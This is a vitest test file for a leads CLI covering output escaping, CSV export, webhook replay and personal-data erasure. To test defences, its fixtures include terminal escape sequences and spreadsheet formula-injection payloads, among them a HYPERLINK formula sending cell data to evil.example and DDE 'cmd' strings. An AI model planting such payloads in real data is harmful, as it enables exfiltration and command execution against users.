import { randomBytes } from "node:crypto";
import { mkdirSync, rmSync } from "node:fs";
import { join } from "node:path";

import { PostgrestClient } from "@supabase/postgrest-js";
import { Webhook } from "standardwebhooks";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

import { seededDataDir } from "#tests/support/databases.ts";
import { careerAlert, contactMessage } from "#tests/support/lead-rows.ts";
import { type MailServer, startMailServer } from "#tests/support/mail-server.ts";
import { type Receipt, type WebhookReceiver, startWebhookReceiver } from "#tests/support/webhook-receiver.ts";
import { type RunningServer, startServer } from "#server/server.ts";

import {
  erasePerson,
  erasedText,
  eventStates,
  fetchEvents,
  fetchLeads,
  marketingAudience,
  personData,
  personText,
  render,
  replayEvents,
  retentionSweep,
  toCsv,
  toText,
} from "./leads.ts";

const hostile = {
  id: 1,
  full_name: "\u001b]8;;https://evil.example\u0007Click me\u001b]8;;\u0007",
  company: "\u001b[2J\u001b[HEvil\u0007 Corp\u009b31m \u202eknaB",
  message: "line one\nline two\r\toverwritten",
};

describe("npm run leads -- list", () => {
  it("shows control characters escaped, so a lead cannot drive the operator's terminal", () => {
    const output = toText([hostile], 80);
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(output).toContain("\\x1b]8;;https://evil.example\\x07Click me\\x1b]8;;\\x07");
    expect(output).toContain("\\x1b[2J\\x1b[HEvil\\x07 Corp\\x9b31m \\u202eknaB");
    expect(output).toContain("line one line two overwritten");
  });

  it("says how many report requests are held for review", () => {
    const rows = [
      { id: 1, email: "a@x.example", status: "Requested", review_reason: null },
      { id: 2, email: "b@x.example", status: "Requested", review_reason: "Held: 10 report e-mails to this domain" },
    ];
    expect(toText(rows, 80)).toMatch(/2 rows\n1 held for review/);
    expect(toText(rows.slice(0, 1), 80)).not.toContain("held");
  });

  it("says how many leads' e-mails failed for good, the notification's or the report's", () => {
    const rows = [
      { id: 1, email: "a@x.example", notify_failed_at: new Date("2026-11-25T10:00:00Z") },
      { id: 2, email: "b@x.example", notify_failed_at: null },
      { id: 3, email: "c@x.example", status: "Failed" },
    ];
    expect(toText(rows, 80)).toMatch(/3 rows\n2 whose e-mail failed after 24 hours of attempts/);
    expect(toText(rows.slice(1, 2), 80)).not.toContain("whose e-mail failed");
  });
});

describe("npm run leads -- export", () => {
  it("neutralises every cell a spreadsheet would run as a formula, as OWASP advises", () => {
    const formulas = [
      '=HYPERLINK("https://evil.example?"&A1,"Open")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+91 98765 43210",
      "-2+3+cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\uff1d1+1",
    ];
    const csv = toCsv(formulas.map((value, id) => ({ id, company: value })));
    const cells = csv
      .trim()
      .split(/\n(?=\d,)/)
      .slice(1)
      .map((line) => line.slice(line.indexOf(",") + 1).replace(/^"|"$/g, ""));
    expect(cells).toHaveLength(formulas.length);
    for (const cell of cells) expect(cell.startsWith("'"), cell).toBe(true);
    expect(toCsv([{ id: 1, company: "Kaveri Bank" }])).toBe("id,company\n1,Kaveri Bank\n");
  });

  it("writes JSON with every value exactly as stored", () => {
    const rows = [{ ...hostile, company: "=HYPERLINK(1)" }];
    expect(JSON.parse(render(rows, "json"))).toEqual(rows);
  });
});

describe("lead events through the running server", () => {
  const SECRET = `whsec_${randomBytes(32).toString("base64")}`;
  let dataDir: string;
  let server: RunningServer;
  let smtp: MailServer;
  let receiver: WebhookReceiver;
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    dataDir = seededDataDir("sentinel-leads-events-");
    mkdirSync(join(dataDir, "site"));
    smtp = await startMailServer();
    receiver = await startWebhookReceiver({ status: 500 });
    server = await startServer(
      { host: "127.0.0.1", port: 0, dataDir, clientDir: join(dataDir, "site"), rateLimitPerMinute: 0, trustProxy: 0 },
      {
        env: {
          SMTP_URL: smtp.url,
          SITE_URL: "https://www.sentinel-ai.example",
          WORKER_POLL_MS: "50",
          LEAD_WEBHOOK_URL: receiver.url,
          LEAD_WEBHOOK_SECRET: SECRET,
        },
      },
    );
    env = { HOST: "127.0.0.1", PORT: new URL(server.url).port, DATA_DIR: dataDir };
  }, 60_000);
  afterAll(async () => {
    await server?.close();
    await Promise.all([smtp?.close(), receiver?.close()]);
    rmSync(dataDir, { recursive: true, force: true });
  });

  it("carries where a visit came from into the row, the e-mail, the export and the webhook; lists and replays its event", async () => {
    const since = new Date().toISOString();
    const email = `ananya.${Date.now()}@kaveri-bank.example`;
    const visit = { utm_source: "newsletter", utm_campaign: "q4", landing_path: "/", referrer_host: "mail.google.com" };
    const anon = new PostgrestClient(`${server.url}/rest/v1`, { headers: { apikey: server.keys.anon } });
    const { status } = await anon.from("contact_messages").insert(contactMessage(email, visit));
    expect(status).toBe(201);

    // The receiver answers 500 at first: the event waits, and the list says why.
    await vi.waitFor(
      async () => expect(await fetchEvents(since, env)).toMatchObject([{ status: "pending", last_error: "HTTP 500" }]),
      { timeout: 30_000, interval: 50 },
    );
    const listed = render(await fetchEvents(since, env), "text") + eventStates(await fetchEvents(since, env));
    expect(listed).toMatch(/lead\.contact_message\.created\s+.*pending\s+\d+\s+HTTP 500/);
    expect(listed).toContain("1 row\n1 pending, 0 delivered, 0 failed\n");
    expect(listed).not.toContain(SECRET.slice("whsec_".length, 20));

    receiver.answer(204);
    expect(await replayEvents(since, env)).toBe(1);
    await vi.waitFor(
      async () => expect(await fetchEvents(since, env)).toMatchObject([{ status: "delivered", last_error: null }]),
      { timeout: 30_000, interval: 50 },
    );
    // A receiver that lost it gets it again: the same id, a new series of attempts.
    const before = receiver.received.length;
    expect(await replayEvents(since, env)).toBe(1);
    await vi.waitFor(
      async () => {
        expect(receiver.received.length).toBe(before + 1);
        expect(await fetchEvents(since, env)).toMatchObject([{ status: "delivered", attempts: 1 }]);
      },
      { timeout: 30_000, interval: 50 },
    );
    const [event] = await fetchEvents(since, env);
    const receipts = receiver.received.filter((receipt) => receipt.id === event?.webhook_id);
    expect(receipts.length).toBeGreaterThanOrEqual(3);
    expect(receiver.received.every((receipt) => receipt.id === event?.webhook_id)).toBe(true);
    const last = receipts.at(-1) as Receipt;
    expect(new Webhook(SECRET).verify(last.body, last.headers)).toMatchObject({
      type: "lead.contact_message.created",
      data: { email, ...visit, utm_medium: null },
    });

    await vi.waitFor(() => expect(smtp.received.map((mail) => mail.replyTo?.value[0]?.address)).toContain(email), {
      timeout: 30_000,
      interval: 50,
    });
    const mail = smtp.received.find((each) => each.replyTo?.value[0]?.address === email);
    expect(mail?.text).toContain("  Campaign source (utm_source): newsletter\n  Campaign (utm_campaign): q4\n");
    expect(mail?.text).toContain("  Landing page: /\n  Referring site: mail.google.com\n");

    const [row] = (await fetchLeads("contact_messages", env)).filter((lead) => lead.email === email);
    expect(row).toMatchObject({ ...visit, utm_medium: null });
    const csv = toCsv([row as Record<string, unknown>]);
    expect(csv.split("\n")[0]).toContain(
      ",utm_source,utm_medium,utm_campaign,utm_term,utm_content,landing_path,referrer_host",
    );
    expect(csv.split("\n")[1]).toContain(",newsletter,,q4,,,/,mail.google.com");
    expect(JSON.parse(render([row as Record<string, unknown>], "json"))).toMatchObject([visit]);
  }, 120_000);

  it("refuses a replay without a time it can read, naming the option", async () => {
    await expect(replayEvents(undefined, env)).rejects.toThrow(/--since is required/);
    await expect(replayEvents("yesterday", env)).rejects.toThrow(/--since takes an ISO 8601 time/);
  });
});

describe("lead events without LEAD_WEBHOOK_URL", () => {
  let dataDir: string;
  let server: RunningServer;

  beforeAll(async () => {
    dataDir = seededDataDir("sentinel-leads-unsent-");
    mkdirSync(join(dataDir, "site"));
    server = await startServer(
      { host: "127.0.0.1", port: 0, dataDir, clientDir: join(dataDir, "site"), rateLimitPerMinute: 0, trustProxy: 0 },
      { env: { WORKER_POLL_MS: "50" } },
    );
  }, 60_000);
  afterAll(async () => {
    await server?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it("are recorded and listed as pending, none attempted", async () => {
    const env = { HOST: "127.0.0.1", PORT: new URL(server.url).port, DATA_DIR: dataDir };
    const anon = new PostgrestClient(`${server.url}/rest/v1`, { headers: { apikey: server.keys.anon } });
    for (let i = 0; i < 3; i++) await anon.from("career_alerts").insert(careerAlert(`neha${i}@careers.example`));
    await server.worker?.runOnce();
    const events = await fetchEvents(undefined, env);
    expect(events).toMatchObject(
      Array(3).fill({ type: "lead.career_alert.created", status: "pending", attempts: 0, last_error: null }),
    );
    expect(eventStates(events)).toBe("3 pending, 0 delivered, 0 failed\n");
  });
});

describe("a person's data through the running server", () => {
  let dataDir: string;
  let server: RunningServer;
  let env: NodeJS.ProcessEnv;
  let anon: PostgrestClient;

  beforeAll(async () => {
    dataDir = seededDataDir("sentinel-leads-person-");
    mkdirSync(join(dataDir, "site"));
    server = await startServer(
      { host: "127.0.0.1", port: 0, dataDir, clientDir: join(dataDir, "site"), rateLimitPerMinute: 0, trustProxy: 0 },
      { delivery: false },
    );
    env = { HOST: "127.0.0.1", PORT: new URL(server.url).port, DATA_DIR: dataDir };
    anon = new PostgrestClient(`${server.url}/rest/v1`, { headers: { apikey: server.keys.anon } });
  }, 60_000);
  afterAll(async () => {
    await server?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it("prints everything held for an address, erases it, and says what went", async () => {
    const email = `ananya.${Date.now()}@kaveri-bank.example`;
    await anon.from("contact_messages").insert(contactMessage(email, { marketing_opt_in: true }));
    await anon.from("career_alerts").insert(careerAlert(email));
    const held = await personData(email, env);
    expect(held).toMatchObject({
      contact_messages: [{ email, company: "Kaveri Bank", marketing_opt_in: true, notice_language: "en" }],
      download_report: [],
      career_alerts: [{ email, source: "careers-notify" }],
    });
    const text = personText(email, held);
    expect(text).toContain(`Held for ${email}:\ncontact_messages: 1 row\n`);
    expect(text).toContain("    company: Kaveri Bank\n");
    expect(text).toContain("download_report: 0 rows\ncareer_alerts: 1 row\n");
    // The ticked box counts once the address confirms it, through the link it was e-mailed.
    expect((await marketingAudience(env)).map((row) => row.email)).not.toContain(email);
    const { rows } = await server.db.query<{ token: string }>(
      "select token from private.data_rights_mail where kind = 'verify' and to_address = $1",
      [email],
    );
    expect(await anon.rpc("confirm_data_rights", { token: rows[0]?.token })).toMatchObject({
      data: { status: "done", kind: "marketing" },
    });
    expect(await marketingAudience(env)).toEqual([
      expect.objectContaining({ email, confirmed_by: "email-link", confirmed_at: expect.any(String) }),
    ]);

    const ids = [held.contact_messages[0]?.id, held.career_alerts[0]?.id];
    const erased = await erasePerson(email, env);
    expect(erasedText(email, erased)).toBe(
      `Erased ${email} and every spelling of its mailbox:\n  contact_messages: 1 (id ${ids[0]})\n  download_report: 0\n  career_alerts: 1 (id ${ids[1]})\n` +
        "The address is suppressed and a confirmation e-mail is queued; the CRM is told where a webhook is configured (npm run leads -- events).\n",
    );
    expect(await personData(email, env)).toEqual({ contact_messages: [], download_report: [], career_alerts: [] });
    expect((await marketingAudience(env)).map((row) => row.email)).not.toContain(email);
  });

  it("says per table what the retention sweep would delete at a later date, and deletes nothing early", async () => {
    await anon.from("career_alerts").insert(careerAlert(`neha.${Date.now()}@careers.example`));
    const inThreeYears = new Date(Date.now() + 3 * 365 * 86_400_000).toISOString();
    await expect(retentionSweep({ asOf: inThreeYears }, env)).rejects.toThrow(/--dry-run/);
    const due = await retentionSweep({ asOf: inThreeYears, dryRun: true }, env);
    expect(due).toContainEqual({ kind: "career_alerts", due: 1, deleted: 0 });
    expect(toText(due)).toMatch(/career_alerts\s+1\s+0/);
    expect(await fetchLeads("career_alerts", env)).toHaveLength(1);
    expect(await retentionSweep({}, env)).toContainEqual({ kind: "career_alerts", due: 0, deleted: 0 });
    await expect(retentionSweep({ asOf: "next year" }, env)).rejects.toThrow(/--as-of takes an ISO 8601 time/);
  });
});
